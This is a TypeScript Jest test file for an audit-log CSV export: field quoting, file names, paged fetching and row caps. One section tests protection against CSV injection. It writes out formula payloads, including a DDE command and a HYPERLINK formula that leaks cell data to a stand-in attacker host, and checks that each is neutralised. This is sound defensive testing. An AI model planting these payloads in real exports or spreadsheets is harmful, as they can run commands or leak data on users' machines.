import { CSV_MAX_ROWS, csvField, csvFileName, fetchAllRows, toCsv, type FetchedPage } from './auditCsv';
import type { AuditEventRow } from './auditFrame';
import { someEvents } from './testing';

describe('CSV fields (RFC 4180)', () => {
  it.each([
    ['plain text as it is', 'USER_LOGIN_SUCCESS', 'USER_LOGIN_SUCCESS'],
    ['null as an empty field', null, ''],
    ['the empty string as an empty field', '', ''],
    ['a comma quoted', 'a,b', '"a,b"'],
    ['quotes doubled and quoted', 'say "hi"', '"say ""hi"""'],
    ['a line feed quoted', 'line 1\nline 2', '"line 1\nline 2"'],
    ['a carriage return quoted', 'a\rb', '"a\rb"'],
    ['spaces kept, unquoted', '  padded  ', '  padded  '],
    ['non-ASCII as it is', 'Jovanović', 'Jovanović'],
    [
      'nested JSON quoted once, its quotes doubled',
      '{"before":{"name":"A, B"},"after":{"name":"C"}}',
      '"{""before"":{""name"":""A, B""},""after"":{""name"":""C""}}"',
    ],
  ])('%s', (_name, value, expected) => {
    expect(csvField(value)).toBe(expected);
  });
});

describe('CSV fields that a spreadsheet would run as formulas (OWASP CSV injection)', () => {
  it.each([
    ['a formula', '=1+1', `"'=1+1"`],
    ['a command through DDE', `=cmd|' /C calc'!A0`, `"'=cmd|' /C calc'!A0"`],
    [
      'a hyperlink that leaks data',
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
    ],
    ['a leading plus', '+1+cmd|calc', `"'+1+cmd|calc"`],
    ['a leading minus', '-2+3', `"'-2+3"`],
    ['a leading at sign', '@SUM(1,2)', `"'@SUM(1,2)"`],
    ['a leading tab', '\t=1', `"'\t=1"`],
    ['a leading carriage return', '\r=1', `"'\r=1"`],
  ])('%s gets a leading apostrophe and quotes', (_name, value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it.each([
    ['an e-mail address', 'ana@example.com'],
    ['an equals sign inside', 'a=b'],
    ['a minus inside', 'kb-2024'],
  ])('%s is left as it is', (_name, value) => {
    expect(csvField(value)).toBe(value);
  });
});

describe('CSV file', () => {
  const row = (over: Partial<AuditEventRow>): AuditEventRow => ({
    id: 'e1',
    time: Date.UTC(2024, 4, 1, 9, 30, 5, 120),
    user: 'u1',
    tenant: 't1',
    action: 'KB_UPDATE',
    details: null,
    ...over,
  });

  it.each<[string, AuditEventRow[], string]>([
    ['only the header when nothing matches', [], 'time,user,tenant,action,details\r\n'],
    [
      'time in ISO 8601 UTC, nulls empty, CRLF line ends, the id left out',
      [row({}), row({ id: 'e2', time: 0, user: null, tenant: null, action: 'USER_LOGIN_FAILURE' })],
      'time,user,tenant,action,details\r\n' +
        '2024-05-01T09:30:05.120Z,u1,t1,KB_UPDATE,\r\n' +
        '1970-01-01T00:00:00.000Z,,,USER_LOGIN_FAILURE,\r\n',
    ],
    [
      'details quoted, with a line break inside the field',
      [row({ details: '{"note":"two\nlines","ip":"192.0.2.1"}' })],
      'time,user,tenant,action,details\r\n' +
        '2024-05-01T09:30:05.120Z,u1,t1,KB_UPDATE,"{""note"":""two\nlines"",""ip"":""192.0.2.1""}"\r\n',
    ],
    [
      'hostile user, tenant, action and details neutralised in every column',
      [
        row({
          user: '@evil.example',
          tenant: '-1+1',
          action: '+KB_CREATE',
          details: '=HYPERLINK("http://evil.example","x")',
        }),
      ],
      'time,user,tenant,action,details\r\n' +
        `2024-05-01T09:30:05.120Z,"'@evil.example","'-1+1","'+KB_CREATE","'=HYPERLINK(""http://evil.example"",""x"")"\r\n`,
    ],
  ])('%s', (_name, rows, expected) => {
    expect(toCsv(rows)).toBe(expected);
  });

  it.each([
    [
      'a day, UTC, no colons',
      Date.UTC(2024, 4, 1),
      Date.UTC(2024, 4, 2),
      'audit-2024-05-01T00-00-00Z_2024-05-02T00-00-00Z.csv',
    ],
    [
      'milliseconds dropped',
      Date.UTC(2024, 11, 31, 23, 59, 59, 999),
      Date.UTC(2025, 0, 1, 8, 5, 1, 1),
      'audit-2024-12-31T23-59-59Z_2025-01-01T08-05-01Z.csv',
    ],
  ])('file name: %s', (_name, from, to, expected) => {
    expect(csvFileName(from, to)).toBe(expected);
  });
});

describe('fetching every page for the export', () => {
  /** A ledger holding `total` events, answering pages of `pageSize` (the max rows setting may cut it). */
  function ledger(total: number, pageSize: number) {
    return jest.fn(async (page: number): Promise<FetchedPage> => {
      const first = (page - 1) * pageSize;
      return { rows: someEvents(Math.max(0, Math.min(pageSize, total - first)), first + 1), total };
    });
  }

  it('fetches pages until every matching event is in, and no page past the last', async () => {
    const fetchPage = ledger(2500, 1000);
    const result = await fetchAllRows(fetchPage);
    expect(fetchPage.mock.calls.map(([page]) => page)).toEqual([1, 2, 3]);
    expect(result.rows).toHaveLength(2500);
    expect(result.rows.map((r) => r.id).slice(998, 1002)).toEqual(['e999', 'e1000', 'e1001', 'e1002']);
    expect(result).toMatchObject({ total: 2500, capped: false });
  });

  it('follows the total, not the page size it asked for, when the ledger answers smaller pages', async () => {
    const fetchPage = ledger(450, 200);
    const result = await fetchAllRows(fetchPage);
    expect(fetchPage).toHaveBeenCalledTimes(3);
    expect(result).toMatchObject({ total: 450, capped: false });
    expect(new Set(result.rows.map((r) => r.id)).size).toBe(450);
  });

  it('asks once when nothing matches', async () => {
    const fetchPage = ledger(0, 1000);
    expect(await fetchAllRows(fetchPage)).toEqual({ rows: [], total: 0, capped: false });
    expect(fetchPage).toHaveBeenCalledTimes(1);
  });

  it('stops at the cap, keeps exactly the cap, and says the export is capped', async () => {
    const fetchPage = ledger(10_000, 1000);
    const result = await fetchAllRows(fetchPage, { cap: 2500 });
    expect(fetchPage).toHaveBeenCalledTimes(3);
    expect(result.rows).toHaveLength(2500);
    expect(result).toMatchObject({ total: 10_000, capped: true });
  });

  it('is not capped when the events fit the cap exactly', async () => {
    const result = await fetchAllRows(ledger(2000, 1000), { cap: 2000 });
    expect(result).toMatchObject({ total: 2000, capped: false });
  });

  it('stops on an empty page even if the total promised more (events deleted meanwhile)', async () => {
    const fetchPage = jest.fn(async (page: number) => ({ rows: page === 1 ? someEvents(1000) : [], total: 1500 }));
    const result = await fetchAllRows(fetchPage);
    expect(fetchPage).toHaveBeenCalledTimes(2);
    expect(result.rows).toHaveLength(1000);
  });

  it('stops between pages when aborted', async () => {
    const abort = new AbortController();
    const fetchPage = jest.fn(async (page: number) => {
      abort.abort();
      return { rows: someEvents(1000, (page - 1) * 1000 + 1), total: 5000 };
    });
    await expect(fetchAllRows(fetchPage, { signal: abort.signal })).rejects.toThrow('the export was cancelled');
    expect(fetchPage).toHaveBeenCalledTimes(1);
  });

  it('caps at 50,000 events by default', () => {
    expect(CSV_MAX_ROWS).toBe(50_000);
  });
});
